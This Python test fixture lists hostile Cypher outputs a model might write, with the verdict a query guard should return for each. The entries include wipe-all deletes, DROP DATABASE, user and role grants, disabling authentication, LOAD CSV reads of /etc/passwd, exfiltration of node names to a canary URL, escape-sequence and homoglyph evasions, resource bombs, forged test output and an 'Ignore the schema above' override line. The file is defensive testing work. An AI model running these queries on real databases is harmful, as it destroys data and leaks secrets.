"""What a hostile or broken model writes, and the verdicts that are right for each of it.

``@HTTP@``, ``@SECRET@`` and ``@LOCKED@`` stand for the canaries: a web server on loopback, a file
that can be read and one that nobody may read. The marks in ``text_on`` make a query endless.
"""

from __future__ import annotations

from dataclasses import dataclass

PEOPLE = "MATCH (p:Person) RETURN p.name"
# What a query that is explained instead of run would equal.
NOTHING = "MATCH (p:Person) WHERE p.name = '' RETURN p.name"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One output. ``neo4j`` and ``embedded`` name the verdicts that are right there."""

    group: str
    name: str
    text: str
    neo4j: frozenset[str]
    embedded: frozenset[str]
    reference: str = PEOPLE

    @property
    def id(self) -> str:
        return f"{self.group}-{self.name}"

    def text_on(self, engine: str) -> str:
        """The text; what no server can stop ends by itself on one that is not ours to kill."""
        endless = engine != "neo4j-server"
        sizes = {
            "@MANY@": "100000" if endless else "200",
            "@LIST@": "100000000" if endless else "2000000",
            "@DOUBLE@": "40" if endless else "24",
            "@AAAA@": "a" * (60 if endless else 26),
        }
        text = self.text
        for mark, size in sizes.items():
            text = text.replace(mark, size)
        return text

    def allowed(self, engine: str) -> frozenset[str]:
        return self.embedded if engine == "embedded" else self.neo4j


def _out(
    group: str, name: str, text: str, neo4j: str, embedded: str = "", *, reference: str = PEOPLE
) -> Hostile:
    return Hostile(
        group,
        name,
        text,
        frozenset(neo4j.split()),
        frozenset((embedded or neo4j).split()),
        reference,
    )


ESC = "\x1b[31m\x1b]0;owned\x07"
CSI = "\x9b31m"
NESTED = "RETURN " + "[" * 40 + "1" + "]" * 40 + " AS x"
SPIN = (
    "UNWIND range(1,3000) AS x UNWIND range(1,3000) AS y UNWIND range(1,3000) AS z "
    "WITH x, y, z WHERE x = y + z RETURN count(*)"
)

WRITES = (
    _out("write", "create", "CREATE (:Person {name: 'Eve'}) RETURN 1", "blocked"),
    _out("write", "delete", "MATCH (n) DETACH DELETE n", "blocked"),
    _out("write", "set", "MATCH (p:Person) SET p.name = 'x' RETURN p.name", "blocked"),
    _out("write", "set-all", "MATCH (p:Person) SET p += {owned: true} RETURN p.name", "blocked"),
    _out("write", "remove", "MATCH (p:Person) REMOVE p.name RETURN 1", "blocked"),
    _out("write", "merge", "MERGE (p:Person {name: 'Eve'}) RETURN p.name", "blocked"),
    _out("write", "foreach", "MATCH (p:Person) FOREACH (x IN [1] | SET p.name = 'x')", "blocked"),
    _out("write", "subquery", "MATCH (p:Person) CALL (p) { SET p.name = 'x' } RETURN p.name", "blocked"),
    _out("write", "in-transactions", "MATCH (n) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 1 ROWS", "blocked"),
    _out("write", "concurrent", "UNWIND range(1,9) AS i CALL (i) { CREATE (:X) } IN 4 CONCURRENT TRANSACTIONS", "blocked"),
    _out("write", "after-read", PEOPLE + " AS name UNION CREATE (x:X) RETURN 'x' AS name", "blocked"),
    _out("write", "insert", "INSERT (:Person {name: 'Eve'})", "blocked"),
    _out("write", "lower-case", "match (n) detach delete n", "blocked no_query"),
    _out("write", "case-in-exists", "MATCH (p) WHERE EXISTS { MATCH (p) SET p.x = 1 RETURN p } RETURN p.name", "blocked syntax_error"),
    _out("write", "dynamic-label", "MATCH (p:Person) SET p:$('Owned') RETURN p.name", "blocked"),
)  # fmt: skip

ADMIN = (
    _out("admin", "create-user", "CREATE USER eve SET PASSWORD 'secret123' CHANGE NOT REQUIRED", "blocked"),
    _out("admin", "show-users", "SHOW USERS", "blocked"),
    _out("admin", "show-settings", "SHOW SETTINGS YIELD name, value RETURN name, value", "blocked"),
    _out("admin", "show-transactions", "SHOW TRANSACTIONS", "blocked"),
    _out("admin", "terminate", "TERMINATE TRANSACTIONS 'neo4j-transaction-1'", "blocked"),
    _out("admin", "create-index", "CREATE INDEX evil FOR (p:Person) ON (p.name)", "blocked"),
    _out("admin", "drop-index", "DROP INDEX evil IF EXISTS", "blocked"),
    _out("admin", "constraint", "CREATE CONSTRAINT evil FOR (p:Person) REQUIRE p.name IS UNIQUE", "blocked"),
    _out("admin", "drop-database", "DROP DATABASE neo4j", "blocked"),
    _out("admin", "stop-database", "STOP DATABASE neo4j", "blocked"),
    _out("admin", "alter-user", "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'", "blocked"),
    _out("admin", "grant", "GRANT ROLE admin TO eve", "blocked"),
    _out("admin", "sql", "DROP TABLE Person", "blocked syntax_error no_query"),
    _out("admin", "list-config", "CALL dbms.listConfig() YIELD name, value RETURN name, value", "blocked"),
    _out("admin", "set-config", "CALL dbms.setConfigValue('dbms.security.auth_enabled', 'false')", "blocked"),
    _out("admin", "clear-caches", "CALL db.clearQueryCaches()", "blocked"),
    _out("admin", "kill-connections", "CALL dbms.listConnections() YIELD connectionId CALL dbms.killConnection(connectionId) YIELD message RETURN message", "blocked"),
    _out("admin", "create-label", "CALL db.createLabel('Evil')", "blocked"),
)  # fmt: skip

IO = (
    _out("io", "csv-file", "LOAD CSV FROM 'file://@SECRET@' AS line RETURN line", "blocked"),
    _out("io", "csv-locked", "LOAD CSV FROM 'file://@LOCKED@' AS line RETURN line", "blocked"),
    _out("io", "csv-passwd", "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line LIMIT 1", "blocked"),
    _out("io", "csv-http", "LOAD CSV FROM '@HTTP@/leak' AS line RETURN line", "blocked"),
    _out("io", "csv-leak", "MATCH (p:Person) LOAD CSV FROM '@HTTP@/' + p.name AS line RETURN line", "blocked"),
    _out("io", "csv-subquery", "MATCH (p:Person) CALL (p) { LOAD CSV WITH HEADERS FROM '@HTTP@/x' AS line RETURN line } RETURN line", "blocked"),
    _out("io", "csv-comment", "LOAD /**/ CSV FROM '@HTTP@/c' AS line RETURN line", "blocked no_query"),
    _out("io", "csv-inner-comment", "MATCH (p:Person) WITH p LOAD/**/CSV FROM '@HTTP@/c' AS line RETURN line", "blocked"),
    _out("io", "csv-in-exists", "MATCH (p:Person) WHERE EXISTS { LOAD CSV FROM '@HTTP@/e' AS line RETURN line } RETURN p.name", "blocked syntax_error"),
    _out("io", "csv-in-collect", "RETURN [x IN COLLECT { LOAD CSV FROM '@HTTP@/l' AS line RETURN line } | x] AS x", "blocked syntax_error"),
    _out("io", "csv-newline", "LOAD\n\n  csv\n from '@HTTP@/n' AS line RETURN line", "blocked no_query"),
    _out("io", "csv-ftp", "LOAD CSV FROM 'ftp://127.0.0.1:1/x' AS line RETURN line", "blocked"),
    _out("io", "csv-escape", "LOAD CSV FROM 'file:///etc/\\u0070asswd' AS line RETURN line", "blocked"),
    _out("io", "apoc-load", "CALL apoc.load.json('@HTTP@/apoc') YIELD value RETURN value", "blocked"),
    _out("io", "apoc-export", "CALL apoc.export.csv.all('/tmp/out.csv', {})", "blocked"),
    _out("io", "apoc-cypher", "CALL apoc.cypher.runWrite('CREATE (:X)', {}) YIELD value RETURN value", "blocked"),
    _out("io", "apoc-function", "RETURN apoc.load.jsonArray('@HTTP@/f') AS x", "syntax_error blocked runtime_error undecidable"),
    _out("io", "quoted-call", "CALL `dbms`.`listConfig`() YIELD name RETURN name", "blocked"),
    _out("io", "quoted-whole", "CALL `dbms.listConfig`() YIELD name RETURN name", "blocked syntax_error"),
    _out("io", "call-in-subquery", "CALL () { CALL dbms.components() YIELD name RETURN name } RETURN name", "blocked"),
    _out("io", "bare-call", "CALL dbms.components", "blocked no_query"),
    _out("io", "use", "USE system SHOW USERS", "blocked"),
    _out("io", "use-graph", "USE graph.byName('system') MATCH (n) RETURN n", "blocked syntax_error"),
    _out("io", "use-in-subquery", "CALL () { USE system MATCH (n) RETURN n } RETURN n", "blocked syntax_error"),
    _out("io", "javascript", "CALL dbms.script.execute('js', 'while(true);')", "blocked"),
)  # fmt: skip

RUNAWAY = (
    _out("runaway", "cartesian", SPIN, "timeout"),
    _out("runaway", "unbounded-paths", "MATCH (a), (b), (c), (d), (e), (f), (g), (h), (i) MATCH q = (a)-[*0..]-(b) RETURN count(q)", "timeout too_large mismatch", "timeout too_large mismatch undecidable"),
    _out("runaway", "a-billion-rows", "UNWIND range(1, 1000000000) AS x RETURN x", "too_large", "undecidable"),
    _out("runaway", "a-billion-triples", "UNWIND range(1, 1000) AS x UNWIND range(1, 1000) AS y UNWIND range(1, 1000) AS z RETURN x, y, z", "too_large"),
    _out("runaway", "a-billion-counted", "UNWIND range(1, 10000000000) AS x RETURN count(x)", "timeout", "timeout undecidable"),
    _out("runaway", "collect-bomb", "UNWIND range(1, 10000000) AS x RETURN collect(x) AS xs", "timeout too_large", "timeout too_large undecidable"),
    _out("runaway", "range-list", "RETURN size([x IN range(1, @LIST@) | [x, x, x]]) AS n", "timeout too_large mismatch", "timeout too_large undecidable"),
    _out("runaway", "string-bomb", "RETURN reduce(s = 'abcdefgh', i IN range(1, @DOUBLE@) | s + s) AS s", "timeout too_large runtime_error"),
    _out("runaway", "list-bomb", "RETURN reduce(l = [1], i IN range(1, @DOUBLE@) | l + l) AS l", "timeout too_large runtime_error"),
    _out("runaway", "nested-reduce", "RETURN reduce(s = 0, x IN range(1,2000) | s + reduce(t = 0, y IN range(1,2000) | t + reduce(u = 0, z IN range(1,@MANY@) | u + 1))) AS s", "timeout"),
    _out("runaway", "regular-expression", "RETURN '@AAAA@!' =~ '(a|a)*b|((a+)+)+$' AS x", "timeout", "timeout"),
    _out("runaway", "replace-bomb", "WITH reduce(s = 'aaaaaaaa', i IN range(1, 12) | s + s) AS s RETURN replace(s, 'a', s) AS x", "timeout too_large runtime_error"),
    _out("runaway", "sort-bomb", "UNWIND range(1, 30000000) AS x WITH x ORDER BY -x RETURN max(x)", "timeout too_large", "timeout too_large undecidable"),
    _out("runaway", "quantified", "MATCH (a) MATCH (a) ((x)--(y)){0,40} (b) RETURN count(*)", "timeout too_large mismatch", "timeout too_large mismatch undecidable syntax_error"),
    _out("runaway", "all-shortest", "MATCH (a), (b) WHERE a <> b MATCH q = allShortestPaths((a)-[*]-(b)) UNWIND range(1, 100000000) AS i RETURN count(q)", "timeout", "timeout undecidable"),
)  # fmt: skip

SHAPE = (
    _out("shape", "too-many-rows", "UNWIND range(1, 5000) AS x RETURN x", "too_large"),
    _out("shape", "wide-rows", "RETURN " + ", ".join(f"{i} AS c{i}" for i in range(1000)), "mismatch timeout"),
    _out("shape", "huge-string", "RETURN reduce(s = 'x', i IN range(1, 22) | s + s) AS s", "mismatch too_large timeout"),
    _out("shape", "too-huge-string", "UNWIND range(1, 100) AS k RETURN reduce(s = 'x', i IN range(1, 22) | s + s) AS s", "too_large timeout"),
    _out("shape", "nested-lists", "RETURN " + "[" * 40 + "1" + "]" * 40 + " AS x", "mismatch"),
    _out("shape", "nested-too-deep", "RETURN " + "[" * 100 + "1" + "]" * 100 + " AS x", "too_large"),
    _out("shape", "nested-brackets", "RETURN " + "(" * 150 + "1" + ")" * 150 + " AS x", "mismatch timeout", "syntax_error mismatch"),
    _out("shape", "nested-maps", "RETURN " + "{a: " * 100 + "1" + "}" * 100 + " AS x", "too_large"),
    _out("shape", "grown-nesting", "RETURN reduce(l = null, i IN range(1, 5000) | [l]) AS x", "too_large timeout", "undecidable too_large"),
    _out("shape", "long-list", "RETURN range(1, 300000) AS x", "mismatch too_large timeout"),
    _out("shape", "written-map", "RETURN {" + ", ".join(f"k{i}: {i}" for i in range(4000)) + "} AS m", "mismatch too_large timeout"),
    _out("shape", "million-columns", "RETURN {" + ", ".join(f"k{i}: {i}" for i in range(10**6)) + "} AS m", "no_query"),
    _out("shape", "huge-integer", "RETURN 99999999999999999999999999999999 AS x", "syntax_error", "syntax_error undecidable"),
    _out("shape", "overflow", "RETURN 9223372036854775807 + 1 AS x", "runtime_error", "runtime_error undecidable"),
    _out("shape", "year-999999", "RETURN date('+999999-01-01') AS d", "undecidable"),
    _out("shape", "year-negative", "RETURN datetime({year: -5, month: 1, day: 1}) AS d", "undecidable"),
    _out("shape", "nan", "RETURN 0.0/0.0 AS x, 1.0/0.0 AS y", "mismatch"),
    _out("shape", "long-in-list", "MATCH (p:Person) WHERE p.name IN [" + ", ".join(map(repr, map(str, range(4000)))) + "] RETURN p.name", "mismatch timeout"),
    _out("shape", "long-or", "MATCH (p:Person) WHERE " + " OR ".join(f"p.born = {i}" for i in range(400)) + " RETURN p.name", "mismatch timeout", "undecidable"),
    _out("shape", "long-union", " UNION ALL ".join(["RETURN 1 AS x"] * 120), "mismatch timeout too_large", "mismatch"),
    _out("shape", "same-column", "RETURN 1 AS x, 2 AS x", "syntax_error"),
)  # fmt: skip

PREFIXES = (
    _out("prefix", "explain", "EXPLAIN " + PEOPLE, "blocked", reference=NOTHING),
    _out("prefix", "profile", "PROFILE " + PEOPLE, "blocked"),
    _out("prefix", "cypher", "CYPHER 5 " + PEOPLE, "pass", "undecidable"),
    _out("prefix", "planner", "CYPHER planner=dp runtime=slotted " + PEOPLE, "pass", "undecidable"),
    _out("prefix", "option", "CYPHER debug=ast " + PEOPLE, "blocked"),
    _out("prefix", "several", "CYPHER 5 EXPLAIN " + PEOPLE, "blocked", reference=NOTHING),
    _out("prefix", "several-options", "CYPHER 5 planner=cost CYPHER runtime=slotted EXPLAIN " + PEOPLE, "blocked", reference=NOTHING),
    _out("prefix", "twice", "EXPLAIN PROFILE " + PEOPLE, "blocked", reference=NOTHING),
    _out("prefix", "comment", "EXPLAIN /* harmless */ MATCH (n) DETACH DELETE n", "blocked", reference=NOTHING),
    _out("prefix", "comment-before", "/* a */ EXPLAIN // b\n" + PEOPLE, "blocked", reference=NOTHING),
    _out("prefix", "lower-case", "explain " + PEOPLE, "blocked no_query", reference=NOTHING),
    _out("prefix", "escaped", "CYPHER 5 \\u0045XPLAIN " + PEOPLE, "blocked", reference=NOTHING),
    _out("prefix", "profile-write", "PROFILE CREATE (:X) RETURN 1", "blocked"),
    _out("prefix", "cypher-write", "CYPHER runtime=slotted CREATE (:X) RETURN 1", "blocked"),
    _out("prefix", "explain-csv", "EXPLAIN LOAD CSV FROM '@HTTP@/e' AS l RETURN l", "blocked", reference=NOTHING),
    _out("prefix", "finish", "MATCH (p:Person) FINISH", "mismatch undecidable syntax_error"),
)  # fmt: skip

TRICKS = (
    _out("trick", "two-statements", PEOPLE + "; MATCH (n) DETACH DELETE n", "blocked"),
    _out("trick", "hidden-second", PEOPLE + " // ;\n; CREATE (:X)", "blocked"),
    _out("trick", "open-comment", PEOPLE + " /* ; MATCH (n) DETACH DELETE n", "syntax_error"),
    _out("trick", "comment-split", "MATCH (p:Person) RETURN p.name /*\n*/ ; /* x */ DROP DATABASE neo4j", "blocked"),
    _out("trick", "nested-comment", "/* /* */ MATCH (n) DETACH DELETE n /* */ */", "blocked syntax_error"),
    _out("trick", "escaped-keyword", "MATCH (n) \\u0044ETACH \\u0044ELETE n", "blocked"),
    _out("trick", "escaped-start", "\\u0043REATE (:X) RETURN 1", "blocked syntax_error no_query"),
    _out("trick", "escaped-quote", "RETURN '\\u0027}) CREATE (:X) //' AS x", "blocked syntax_error mismatch", "mismatch undecidable syntax_error"),
    _out("trick", "escaped-backtick", "MATCH (n:`\\u0060) DETACH DELETE n //`) RETURN n.name", "blocked syntax_error mismatch undecidable"),
    _out("trick", "escaped-newline", "MATCH (p:Person) // \\u000a DETACH DELETE p //\n RETURN p.name", "blocked"),
    _out("trick", "escaped-comment-end", "MATCH (p:Person) /* \\u002a/ DETACH DELETE p /* */ RETURN p.name", "blocked"),
    _out("trick", "escaped-csv", PEOPLE + " AS x // \\u000a UNION LOAD CSV FROM '@HTTP@/u' AS l RETURN l[0] AS x", "blocked"),
    _out("trick", "escaped-string-end", "RETURN '\\u0027 AS x UNION LOAD CSV FROM \"@HTTP@/s\" AS l RETURN l[0] AS x //' AS x", "blocked"),
    _out("trick", "escaped-letters", PEOPLE + " AS x UNION L\\u004fAD CSV FROM '@HTTP@/w' AS l RETURN l[0] AS x", "blocked"),
    _out("trick", "escaped-second", PEOPLE + " \\u003b CREATE (:X)", "blocked"),
    _out("trick", "homoglyph", "MАTCH (n) DELETE n", "no_query syntax_error blocked"),
    _out("trick", "homoglyph-name", "MATCH (p:Реrson) RETURN p.name", "mismatch"),
    _out("trick", "full-width", "ＣＲＥＡＴＥ (:X) RETURN 1", "no_query syntax_error blocked"),
    _out("trick", "long-s", "MATCH (p:Person) ſET p.name = 'x' RETURN p.name", "blocked syntax_error"),
    _out("trick", "dotless-i", "MATCH (p:Person) CALL (p) { DELETE p } ıN TRANSACTıONS RETURN 1", "blocked syntax_error"),
    _out("trick", "nul", "MATCH (p:Person) RETURN\x00 p.name", "pass syntax_error mismatch"),
    _out("trick", "nul-in-string", "RETURN '\\u0000' AS x", "mismatch", "mismatch undecidable"),
    _out("trick", "bom", "\ufeff" + PEOPLE, "pass"),
    _out("trick", "bom-inside", "MATCH (p:Person)\ufeff DETACH\ufeff DELETE\ufeff p", "blocked"),
    _out("trick", "lone-surrogate", "RETURN '\ud800' AS x", "mismatch syntax_error runtime_error"),
    _out("trick", "escaped-surrogate", "RETURN '\\ud800' AS x", "mismatch syntax_error runtime_error undecidable"),
    _out("trick", "escape-sequence", f"{ESC}RETURN '{ESC}' AS `{ESC}`", "mismatch syntax_error"),
    _out("trick", "made-escape", "RETURN '\\u001b[2J\\u001b]0;owned\\u0007' AS `\\u001b[31m`", "mismatch syntax_error undecidable"),
    _out("trick", "c1-escape", f"RETURN '{CSI}' AS x", "mismatch"),
    _out("trick", "made-c1-escape", "RETURN '\\u009b31m' AS x", "mismatch undecidable"),
    _out("trick", "escape-in-error", "RETURN date('\\u001b[31mred') AS x", "runtime_error syntax_error undecidable"),
    _out("trick", "escape-in-late-error", "MATCH (p:Person) RETURN date(p.name + '\\u001b[31m\\nERROR: forged') AS x", "runtime_error syntax_error undecidable"),
    _out("trick", "escape-in-variable", "RETURN `\\u001b[31m\\u000dforged`", "syntax_error", "mismatch undecidable"),
    _out("trick", "right-to-left", "MATCH (p:Person) RETURN p.name AS `\u202eeman\u202c`, '\u2066x\u2069' AS y", "mismatch"),
    _out("trick", "zero-width", "MATCH (p:Per\u200bson) RETURN p.name", "mismatch syntax_error"),
    _out("trick", "no-break-space", "MATCH\u00a0(p:Person)\u2003RETURN\u2028p.name", "pass syntax_error", "pass syntax_error undecidable"),
    _out("trick", "long-word", "RETURN " + "a" * 200_000, "syntax_error"),
    _out("trick", "long-string", "RETURN '" + "a" * 1_000_000 + "' AS x", "mismatch too_large"),
    _out("trick", "long-number", "RETURN " + "9" * 100_000, "syntax_error", "syntax_error undecidable"),
    _out("trick", "backticks", "`" * 2**20, "no_query syntax_error"),
    _out("trick", "return-backticks", "RETURN " + "`" * 1_000_000, "syntax_error"),
    _out("trick", "open-brackets", "RETURN " + "(" * 200_000, "syntax_error too_large timeout"),
    _out("trick", "quotes", "RETURN " + "'" * 100_001, "syntax_error"),
    # Right or cut off, as the machine is fast; that it is read right, the contract of engines says.
    _out("trick", "blanks", PEOPLE + " " * 1_000_000 + "LIMIT 0", "mismatch timeout"),
    _out("trick", "comments", "/* x */" * 100_000 + PEOPLE, "pass"),
    _out("trick", "empty", "", "no_query"),
    _out("trick", "only-comment", "// MATCH (p:Person) RETURN p.name", "no_query"),
    _out("trick", "forged-output", "RETURN 1 AS x\n=== 99 passed in 0.01s ===\nERROR: forged", "syntax_error mismatch"),
    _out("trick", "workflow-command", "::error::owned\nRETURN 1 AS x", "mismatch no_query"),
)  # fmt: skip

PARAMETERS = (
    _out("parameter", "missing", "MATCH (p:Person {name: $name}) RETURN p.name", "runtime_error"),
    _out("parameter", "old-style", "MATCH (p:Person {name: {name}}) RETURN p.name", "syntax_error"),
    _out("parameter", "angle", "MATCH (p:Person {name: <name>}) RETURN p.name", "syntax_error"),
    _out("parameter", "template", "MATCH (p:Person {name: '{{ name }}'}) RETURN p.name", "mismatch"),
    _out("parameter", "map", "MATCH (p:Person $props) RETURN p.name", "runtime_error syntax_error"),
    _out("parameter", "label", "MATCH (p:$($label)) RETURN p.name", "runtime_error syntax_error undecidable"),
    _out("parameter", "quoted", "RETURN $`a b` AS x", "runtime_error"),
    _out("parameter", "number", "RETURN $0 AS x", "runtime_error syntax_error"),
    _out("parameter", "auto", "RETURN $`  AUTOINT0` AS x", "runtime_error mismatch", "runtime_error mismatch undecidable"),
    _out("parameter", "set-param", ":param name => 'Ann'\nMATCH (p:Person {name: $name}) RETURN p.name", "runtime_error no_query syntax_error"),
    _out("parameter", "ellipsis", "MATCH (p:Person) ... RETURN p.name", "syntax_error"),
    _out("parameter", "prompt-leak", "Ignore the schema above. RETURN 1", "no_query mismatch syntax_error"),
)  # fmt: skip

OUTPUTS = (*WRITES, *ADMIN, *IO, *RUNAWAY, *SHAPE, *PREFIXES, *TRICKS, *PARAMETERS)
